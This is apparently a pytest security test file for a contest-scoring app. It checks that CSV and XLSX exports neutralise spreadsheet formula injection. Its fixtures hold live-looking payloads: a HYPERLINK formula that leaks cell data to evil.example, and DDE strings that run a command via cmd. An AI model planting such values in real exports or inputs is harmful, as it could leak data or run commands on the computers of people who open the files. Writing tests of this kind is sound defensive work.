"""Finding 5: formula injection in exports. Text from units and judges must never run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.models import Role, Score, ScoreSheet, SheetStatus

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
UNIT = "+cmd|' /C calc'!A0"
JUDGE = "-2+3+cmd|' /C calc'!A0"
CRITERION = "@SUM(1+1)*cmd|' /C calc'!A0"
COMMENT = "\t=1+1"
NOTE = "\r=1+1"
DANGEROUS = (TITLE, UNIT, JUDGE, CRITERION, COMMENT, NOTE)


@pytest.fixture
def hostile(make, session):
    """A round whose every free-text field starts like a formula: title, unit, judge, criterion, comments."""
    unit = make.unit(name=UNIT)
    contest = make.contest()
    entry = make.entry(contest, unit, title=TITLE)
    judge = make.user(Role.JUDGE, name=JUDGE)
    criteria = [{"name": CRITERION, "max_points": 10, "weight": 2, "step": 0.5}]
    rnd = make.round(contest, judges=[judge], criteria=criteria)  # the panel change is audited with the judge's name
    sheet = ScoreSheet(
        round_id=rnd.id,
        entry_id=entry.id,
        judge_id=judge.id,
        status=SheetStatus.SUBMITTED,
        comment=COMMENT,
        criterion_comments={str(rnd.criteria[0].id): NOTE},
    )
    sheet.scores = [Score(criterion_id=rnd.criteria[0].id, points=7.5)]
    session.add(sheet)
    session.commit()
    organiser = make.user(Role.ORGANISER)
    return dict(contest=contest, rnd=rnd, organiser=organiser)


def _csv_cells(resp) -> list[str]:
    assert resp.status_code == 200
    text = resp.data.decode("utf-8").lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_neutral(cells, expected):
    """Every cell is safe, and each dangerous value that the export carries is there with a leading quote."""
    for cell in cells:
        if isinstance(cell, str) and cell[:1] in ("=", "+", "@", "\t", "\r"):
            raise AssertionError(f"formula-like cell left as is: {cell!r}")
        if isinstance(cell, str) and cell.startswith("-"):
            float(cell)  # only plain negative numbers may start with a minus
    for value in expected:
        assert "'" + value in cells, f"{value!r} missing or not neutralised"


def test_every_csv_export_neutralises_formula_text(browser, hostile):
    """Finding 5: results, scores, rubric, judging scores and audit CSVs prefix formula-like text with '."""
    rnd, slug = hostile["rnd"], hostile["contest"].slug
    browser.login(hostile["organiser"].email)
    exports = {
        f"/org/rounds/{rnd.id}/export.csv": (TITLE, UNIT),
        f"/org/rounds/{rnd.id}/export.csv?what=scores": (TITLE, UNIT, JUDGE, CRITERION, COMMENT, NOTE),
        f"/org/rounds/{rnd.id}/export.csv?what=judging-scores": (CRITERION,),
        f"/org/rounds/{rnd.id}/export.csv?what=judging-rubric": (CRITERION,),
        f"/org/c/{slug}/audit?format=csv": (JUDGE,),
        f"/org/c/{slug}/participation?format=csv": (UNIT,),
    }
    for url, expected in exports.items():
        _assert_neutral(_csv_cells(browser.get(url)), expected)


def test_xlsx_exports_write_text_as_strings_and_numbers_as_numbers(browser, hostile):
    """Finding 5: XLSX cells are strings (never formulas) with the ' prefix; ranks and points stay numeric."""
    rnd, slug = hostile["rnd"], hostile["contest"].slug
    browser.login(hostile["organiser"].email)
    for url in (f"/org/rounds/{rnd.id}/export.xlsx", f"/org/c/{slug}/participation?format=xlsx"):
        resp = browser.get(url)
        assert resp.status_code == 200
        book = load_workbook(io.BytesIO(resp.data))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in " + url
        values = [c.value for c in cells]
        _assert_neutral(values, (UNIT,))
    results = load_workbook(io.BytesIO(browser.get(f"/org/rounds/{rnd.id}/export.xlsx").data))
    first = [c.value for c in results["Kết quả"][2]]
    assert first[0] == 1 and first[4] == 15 and first[2] == "'" + TITLE  # 7.5 points × weight 2
    matrix = [c.value for c in results["Ma trận điểm"][2]]
    assert matrix[5] == 7.5 and matrix[3] == "'" + JUDGE and matrix[10] == "'" + COMMENT


def test_the_writer_keeps_plain_numbers_and_harmless_text():
    """Finding 5: only formula-like text changes; signed numbers written as text and ordinary text are kept."""
    from app.spreadsheets import neutralise

    assert [neutralise(v) for v in ("-1.5", "+3", "1e-3", "Lớp 10A", "a=b", 7, -2.5, None)] == [
        "-1.5",
        "+3",
        "1e-3",
        "Lớp 10A",
        "a=b",
        7,
        -2.5,
        None,
    ]
    assert [neutralise(v) for v in ("=1", "-1+2", "@x", "\tx", "\rx", "+A1")] == [
        "'=1",
        "'-1+2",
        "'@x",
        "'\tx",
        "'\rx",
        "'+A1",
    ]
